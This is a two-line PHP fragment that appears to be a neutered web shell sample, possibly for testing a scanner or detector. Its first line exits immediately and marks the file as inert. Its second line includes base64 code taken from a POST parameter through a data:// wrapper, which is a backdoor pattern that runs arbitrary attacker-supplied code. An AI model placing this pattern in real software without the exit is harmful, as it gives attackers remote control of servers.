<?php exit; /* inert */ 
include 'data://text/plain;base64,' . $_POST['t'];
